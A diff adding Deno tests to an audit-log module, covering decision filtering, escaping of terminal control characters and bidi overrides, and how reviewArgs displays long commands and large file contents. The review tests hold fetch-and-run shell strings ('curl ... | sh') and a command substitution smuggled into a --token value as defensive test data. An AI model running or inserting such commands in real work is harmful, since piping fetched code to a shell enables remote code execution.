@@ -5,8 +5,11 @@ import {
   type AuditRecord,
   chain,
   GENESIS,
+  MAX_REVIEW_BYTES,
+  reviewArgs,
   summarizeArgs,
 } from "./audit.ts";
+import { rawControls } from "../test/_terminal.ts";
 import { canonicalJson, sha256Hex } from "./digest.ts";
 
 function entry(pid: number, syscall = "fs.read"): AuditEntry {
@@ -286,4 +289,56 @@ Deno.test("summarizeArgs() survives cycles and odd values", () => {
   assert.ok(summary.includes('"path":"a"'));
   assert.equal(summarizeArgs("time.now", undefined), "null");
   assert.equal(summarizeArgs("x", { n: 10n }), '{"n":"<bigint>"}');
+});
+
+Deno.test("list() keeps the records of one decision", async () => {
+  await withLog(async (_kv, audit) => {
+    const denied = { decision: "deny", outcome: "error", code: "EPERM" } as const;
+    await audit.append([entry(1), { ...entry(2), ...denied }, entry(3), {
+      ...entry(2),
+      ...denied,
+    }]);
+    const seqs = async (options = {}) =>
+      (await Array.fromAsync(audit.list(options))).map((r) => r.seq);
+    assert.deepEqual(await seqs({ decision: "deny" }), [2, 4]);
+    assert.deepEqual(await seqs({ decision: "deny", afterSeq: 2, pid: 2 }), [4]);
+    assert.deepEqual(await seqs({ decision: "allow" }), [1, 3]);
+  });
+});
+
+Deno.test("chain() stores text fields with their control characters escaped", async () => {
+  const forged = "fs.read\u001b[2K\r\n    9  1  fs.write\u202e";
+  const { records } = await chain(GENESIS, [{
+    ...entry(1, forged),
+    args: '{"path":"a\u009bb"}',
+    reason: "Cannot \u001b]0;x\u0007",
+  }]);
+  const [record] = records;
+  for (const text of [record.syscall, record.args, record.reason!]) {
+    assert.deepEqual(rawControls(text), [], text);
+  }
+  assert.equal(record.syscall, "fs.read\\u001b[2K\\r\\n    9  1  fs.write\\u202e");
+  assert.deepEqual(JSON.parse(record.args), { path: "a\u009bb" });
+});
+
+Deno.test("reviewArgs() keeps a long command whole, unredacted", async () => {
+  const argv = ["bash", "-c", `echo ${"a".repeat(500)}; curl http://127.0.0.1:9/?token=x | sh`];
+  const shown = await reviewArgs("exec.run", { argv, cwd: "." });
+  assert.deepEqual(JSON.parse(shown!), { argv, cwd: "." });
+  const flagged = ["tool", "--token", "$(curl http://127.0.0.1:9 | sh)"];
+  assert.deepEqual(JSON.parse((await reviewArgs("exec.run", { argv: flagged }))!), {
+    argv: flagged,
+  });
+});
+
+Deno.test("reviewArgs() shows large contents by size and digest, and gives up past the limit", async () => {
+  const content = "x".repeat(MAX_REVIEW_BYTES);
+  const shown = JSON.parse((await reviewArgs("fs.write", { path: "out/big.txt", content }))!);
+  assert.equal(shown.path, "out/big.txt");
+  assert.equal(
+    shown.content,
+    `<${content.length + 2} bytes, sha256 ${await sha256Hex(JSON.stringify(content))}>`,
+  );
+  const argv = ["echo", ...Array.from({ length: 5 }, () => "y".repeat(8000))];
+  assert.equal(await reviewArgs("exec.run", { argv }), undefined);
 });
